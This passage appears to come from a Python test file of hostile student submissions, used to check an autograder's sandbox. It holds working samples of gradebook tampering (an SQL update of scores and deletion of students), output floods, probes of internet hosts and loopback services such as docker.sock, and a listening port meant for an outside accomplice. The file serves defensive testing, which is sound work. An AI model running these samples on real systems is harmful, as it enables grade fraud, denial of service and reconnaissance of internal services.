                book.execute("update grade set auto_score = 3, manual_score = 3, needs_manual_grade = 0")
                book.execute("delete from student")
        except sqlite3.Error as problem:
            print(problem)
"""), needs_isolation=True, damaging=True),
]  # fmt: skip

OUTPUT = [
    _damaging("line-of-100-megabytes", "Prints one line of a hundred megabytes.", "mse-gradient",
              "print('x' * 10**8)", later=True),
    _damaging("output-without-end", "Prints until it is stopped.", "mse-gradient",
              "while True:\n    print('x' * 100_000)", slow=True),
    _damaging("displays-without-end", "Sends pictures and tables without end.", "mse-gradient",
              "from IPython.display import publish_display_data\nwhile True:\n"
              "    publish_display_data({'text/html': '<b>' * 10**6, 'image/png': 'A' * 10**6})", slow=True),
    _damaging("answer-of-a-gigabyte", "Answers a question with an envelope of a gigabyte.", "mse-gradient",
              "import gdcourse.student.answers_for_grader\nfrom IPython.display import publish_display_data\n"
              "def publish(question, cases, find):\n"
              "    publish_display_data({gdcourse.student.answers_for_grader.MIME: [[1.0] * 10**8] * 8})\ngdcourse.student.answers_for_grader.publish = publish"),
    _damaging("to-the-descriptor", "Writes without end to descriptors 1 and 2, past the notebook.", "mse-gradient",
              "import os\nwhile True:\n    for fd in (1, 2):\n        os.write(fd, b'x' * 10**6)", slow=True),
]  # fmt: skip

NETWORK = [
    Hostile("calls-out", "Connects to servers on the internet, by TCP, UDP and name.", NOTHING,
            if_it_leaks("""\
import socket
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("8.8.8.8", 443)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 53))):
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        leaked = leaked or client.connect_ex(address) == 0
try:
    leaked = leaked or bool(socket.getaddrinfo("pypi.org", 443))
except OSError:
    pass
"""), needs_isolation=True),
    Hostile("calls-loopback", "Connects to every service that listens on this machine.", NOTHING,
            if_it_leaks("""\
import os, socket
def link(name):
    try:
        return os.readlink("/proc/self/fd/" + name)
    except OSError:
        return ""
own = {link(name) for name in os.listdir("/proc/self/fd")}
for line in open("/proc/net/tcp").readlines()[1:]:
    fields = line.split()
    if fields[3] == "0A" and f"socket:[{fields[9]}]" not in own:
        with socket.socket() as client:
            client.settimeout(1)
            leaked = leaked or client.connect_ex(("127.0.0.1", int(fields[1].split(":")[1], 16))) == 0
for path in ("/var/run/docker.sock", "/run/postgresql/.s.PGSQL.5432", "/run/dbus/system_bus_socket"):
    with socket.socket(socket.AF_UNIX) as client:
        leaked = leaked or client.connect_ex(path) == 0
for line in open("/proc/net/unix").readlines()[1:]:
    name = line.split()[-1]
    if name.startswith("@"):
        with socket.socket(socket.AF_UNIX) as client:
            leaked = leaked or client.connect_ex("\\0" + name[1:]) == 0
"""), needs_isolation=True),
    Hostile("listens", "Listens on a port of the machine, for an accomplice outside.", NOTHING,
            if_it_leaks("""\
import pathlib, socket
server = socket.socket()
server.bind(("0.0.0.0", 0))
server.listen()
interfaces = {line.split(":")[0].strip() for line in open("/proc/net/dev").readlines()[2:]}
leaked = bool(interfaces - {"lo"})
"""), needs_isolation=True),
    Hostile("installs-packages", "Installs a package from the index and uses it; the rest is right.", FULL,
            right_with("%pip install --quiet --timeout 2 --retries 0 gdcourse-no-such-package"), needs_isolation=True),
]  # fmt: skip

ENTRIES = [*LIFE, *GRADER, *STATE, *MEMORY, *PROCESSES, *DISK, *OUTPUT, *NETWORK]
